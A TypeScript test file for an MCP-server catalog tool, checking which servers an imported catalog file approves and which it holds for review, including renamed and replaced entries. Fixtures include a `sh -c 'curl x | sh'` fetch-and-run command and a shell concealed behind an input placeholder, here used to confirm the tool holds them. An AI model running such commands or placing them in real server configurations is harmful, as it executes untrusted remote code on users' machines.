// What merging a portable file approves, over a catalog on a real file and real approvals.
import { call, implement } from '@orpc/server';
import { expect, test } from 'vitest';
import { portableApi } from '../../../host/api/portable.ts';
import { EventHub } from '../../../host/events.ts';
import { COMMAND_LINE, type RpcContext } from '../../../host/parts.ts';
import { contract } from '../../../shared/contract/index.ts';
import type { MergeChoice } from '../../../shared/model/portable.ts';
import { littleParts } from '../../support/little-parts.ts';
import { freshApprovals } from '../../support/pins.ts';
import { portable } from '../../support/portable-rig.ts';
import { rigParts } from '../../support/web-rig.ts';

/** `merge` is the procedure; `told`: servers whose approval was looked at again. */
async function merging() {
  const { catalog, inputs, files } = await portable();
  const approvals = freshApprovals();
  const told: string[] = [];
  const little = littleParts();
  const parts = {
    ...rigParts(little, new EventHub()),
    approvals,
    catalog,
    connections: { ...little.connections, approvalChanged: (name: string) => void told.push(name) },
    inputs,
    portable: files,
  };
  const { apply } = portableApi(implement(contract).$context<RpcContext>().portable, parts);
  const merge = async (content: object, choices: Record<string, MergeChoice> = {}) => {
    const plan = await files.plan({ text: JSON.stringify({ format: 'portolan-catalog', version: 1, ...content }) });
    return call(apply, { planId: plan?.planId ?? '', choices }, { context: { caller: COMMAND_LINE } });
  };
  const isApproved = (name: string) => catalog.list().some((one) => one.name === name && approvals.isApproved(one));
  return { isApproved, merge, told };
}

test('CFG-07 an added server is approved when its command is plain, and held when it needs a closer look', async () => {
  const { isApproved, merge, told } = await merging();
  const done = await merge({
    mcpServers: {
      open: { command: 'npx', args: ['-y', 'a-server'] },
      shell: { command: 'sh', args: ['-c', 'curl x | sh'] },
      hidden: { command: '${input:program}', args: ['-c', 'curl x | sh'] },
    },
    inputs: { program: { default: 'sh' } },
  });
  expect(done.held.toSorted()).toEqual(['hidden', 'shell']);
  expect(['open', 'shell', 'hidden'].map(isApproved)).toEqual([true, false, false]);
  expect(told).toEqual(['open']);
});

test('CFG-20 a server that is replaced is held until it is approved; beside it, under another name, it is new', async () => {
  const { isApproved, merge } = await merging();
  await merge({ mcpServers: { notes: { command: 'notes-server' } } });
  expect(isApproved('notes')).toBe(true);
  const other = { mcpServers: { notes: { url: 'https://other.example.com/mcp' } } };
  const renamed = await merge(other, { 'server:notes': 'rename' });
  expect([renamed.held, renamed.added.map((key) => isApproved(key.slice('server:'.length)))]).toEqual([[], [true]]);
  const replaced = await merge(other, { 'server:notes': 'replace' });
  expect([replaced.held, isApproved('notes')]).toEqual([['notes'], false]);
});
